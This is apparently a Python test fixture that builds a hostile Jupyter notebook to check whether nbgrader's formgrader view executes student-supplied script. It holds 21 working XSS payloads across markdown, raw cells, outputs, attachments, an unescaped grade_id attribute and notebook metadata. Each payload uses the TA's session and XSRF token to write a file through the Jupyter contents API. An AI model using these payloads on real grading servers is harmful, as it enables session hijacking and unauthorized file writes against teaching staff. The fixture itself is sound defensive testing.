"""A submission written to run script in the TA's formgrader session (issue 10, item 4).

Its answers are correct (it should get full marks: the attack is on the TA, not on the
checks), and it carries every way we know for a notebook to put active content into the page
formgrader renders with nbconvert.  Payload ``n`` sets ``window.__pwned_<n>`` and PUTs
``pwned_<n>.txt`` into the Jupyter root through ``/api/contents`` with the TA's session (the
XSRF token read from the cookie), so a test can see whether ANY of them ran.
"""
from __future__ import annotations

import json
from typing import Any

from course import CORRECT, notebook


def js(n: int) -> str:
    """JavaScript for payload ``n`` (single quotes only: it goes into double-quoted attributes)."""
    return ("(function(){window['__pwned_%d']=1;var m=document.cookie.match(/_xsrf=([^;]+)/);"
            "fetch('/api/contents/pwned_%d.txt',{method:'PUT',credentials:'same-origin',"
            "headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})})})()" % (n, n))


def _b64(text: str) -> str:
    import base64
    return base64.b64encode(text.encode()).decode()


#: markdown payloads (n, text): raw HTML, event handlers that fire without any click, URLs
MARKDOWN = [
    (1, f'<img src="x" onerror="{js(1)}">'),
    (2, f"<script>{js(2)}</script>"),
    (3, f'<svg onload="{js(3)}"><circle r="1"/></svg>'),
    (4, f"<svg><script>{js(4)}</script></svg>"),
    (5, f'<iframe srcdoc="<script>parent.eval(&quot;{js(5)}&quot;)</script>"></iframe>'),
    (6, f'<details open ontoggle="{js(6)}"><summary>x</summary></details>'),
    (7, f'<iframe src="data:text/html;base64,{_b64("<script>parent.eval(" + json.dumps(js(7)) + ")</script>")}"></iframe>'),
    (8, f'<object data="data:text/html;base64,{_b64("<script>parent.eval(" + json.dumps(js(8)) + ")</script>")}"></object>'),
    (9, f'<math><mtext><table><mglyph><style><img src=x onerror="{js(9)}"></style></mglyph></table></mtext></math>'),
    (10, f'<a href="javascript:{js(10)}" id="jslink">click me</a> [md link](javascript:{js(10).replace("(", "%28").replace(")", "%29")})'),
    (11, f'<input autofocus onfocus="{js(11)}">'),
    (12, f'<body onload="{js(12)}"><style>@import "data:text/css,x";</style>'),
]


def xss_notebook() -> dict[str, Any]:
    """The hostile notebook (correct answers + every payload)."""
    nb = notebook(CORRECT)
    extra: list[dict[str, Any]] = []
    for n, text in MARKDOWN:
        extra.append({"cell_type": "markdown", "metadata": {}, "source": f"payload {n}: {text}\n\n$x^{n}$"})
    extra.append({"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"},   # nbconvert emits raw HTML cells verbatim
                  "source": f"<script>{js(13)}</script>"})
    extra.append({"cell_type": "raw", "metadata": {},
                  "source": f'<img src="x" onerror="{js(14)}">'})
    extra.append({"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "1",   # outputs
                  "outputs": [{"output_type": "display_data", "metadata": {},
                               "data": {"text/html": f"<script>{js(15)}</script>",
                                        "application/javascript": js(16),
                                        "image/svg+xml": f'<svg onload="{js(17)}"/>',
                                        "text/plain": "1"}}]})
    extra.append({"cell_type": "markdown", "metadata": {},             # attachment: svg with script
                  "attachments": {"a.svg": {"image/svg+xml": _b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(18)}"/>')}},
                  "source": "![a](attachment:a.svg)"})
    # formgrader's template writes grade_id into id="..." unescaped: break out of the attribute
    extra.append({"cell_type": "markdown", "source": "manually graded answer",
                  "metadata": {"nbgrader": {"grade": True, "solution": True, "locked": False, "points": 1,
                                            "grade_id": f'x" autofocus onfocus="{js(19)}" y="',
                                            "schema_version": 3}}})
    nb["cells"] += extra
    nb["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "x": f"</script><script>{js(20)}</script>"}}
    nb["metadata"]["language_info"] = {"name": "python", "pygments_lexer": f"<script>{js(21)}</script>"}
    return nb


PAYLOADS = range(1, 22)
